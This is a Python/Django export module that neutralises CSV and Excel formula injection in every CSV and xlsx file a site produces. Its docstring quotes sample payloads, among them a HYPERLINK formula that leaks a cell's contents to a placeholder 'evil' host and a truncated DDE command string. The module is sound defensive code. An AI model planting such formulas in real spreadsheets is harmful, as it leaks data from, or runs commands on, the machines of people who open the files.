"""The one CSV / Excel writer: every export (open data, the dashboard, escrow statements, import templates)
goes through it, so text people typed (a post title, an employer's name) never runs as a formula when the
file is opened.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a formula by
Excel, WPS and LibreOffice (``=HYPERLINK("http://evil/?"&A1,"点击")``, ``@SUM(…)``, ``-2+3+cmd|…``); such a
cell gets a leading ``'``, which spreadsheet programs show as "text" and do not evaluate (OWASP "CSV
Injection"). Numbers stay numbers: ints, floats, Decimals and a plain numeric string such as ``-12.50``
are written as they are, since they cannot be a formula. In xlsx every text cell is stored as a string
(openpyxl would otherwise store ``=…`` as a formula) and neutralised the same way, so it stays harmless
when someone copies it into a CSV or presses F2 and Enter on it.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from decimal import Decimal
from typing import Any

from django.http import HttpResponse
from openpyxl import Workbook
from openpyxl.styles import Font, PatternFill

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE = "text/csv; charset=utf-8"


def safe_text(value: str) -> str:
    """``value`` as text no spreadsheet program will evaluate."""
    if value.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_cell(value: Any) -> Any:
    """A cell value for an export: numbers, dates and booleans as they are; anything else as safe text."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal | dt.date | dt.datetime | dt.time):
        return value
    return safe_text(str(value))


# ------------------------------------------------------------------------------------------------ CSV


def csv_text(rows: Iterable[Sequence[Any]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return buffer.getvalue()


def csv_bytes(rows: Iterable[Sequence[Any]]) -> bytes:
    """UTF-8 with a BOM, so Excel on a Chinese Windows reads the Chinese as UTF-8."""
    return ("\ufeff" + csv_text(rows)).encode("utf-8")


def csv_response(rows: Iterable[Sequence[Any]], *, filename: str) -> HttpResponse:
    response = HttpResponse(csv_bytes(rows), content_type=CSV_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# ----------------------------------------------------------------------------------------------- xlsx


@dataclass
class Sheet:
    """One sheet of an xlsx export: its rows (the first is the header when ``header`` is set), the widths
    of some columns (1-based), and columns whose first ``text_rows`` cells are formatted as text (so Excel
    keeps 18-digit ID numbers and leading zeros when someone types into a template)."""

    title: str
    rows: list[Sequence[Any]]
    header: bool = False
    widths: dict[int, float] = field(default_factory=dict)
    text_columns: Sequence[int] = ()
    text_rows: int = 0


def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
    book = Workbook()
    book.remove(book.active)
    for spec in sheets:
        sheet = book.create_sheet(spec.title[:31])
        for row in spec.rows:
            sheet.append([safe_cell(v) for v in row])
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"  # never "f", whatever the text looks like
        if spec.header and spec.rows:
            for cell in sheet[1]:
                cell.font = Font(bold=True)
                cell.fill = PatternFill("solid", fgColor="FFF2CC")
        for column, width in spec.widths.items():
            sheet.column_dimensions[sheet.cell(row=1, column=column).column_letter].width = width
        for column in spec.text_columns:
            for row_number in range(2, spec.text_rows + 2):
                sheet.cell(row=row_number, column=column).number_format = "@"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_response(sheets: Iterable[Sheet], *, filename: str) -> HttpResponse:
    response = HttpResponse(xlsx_bytes(sheets), content_type=XLSX_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
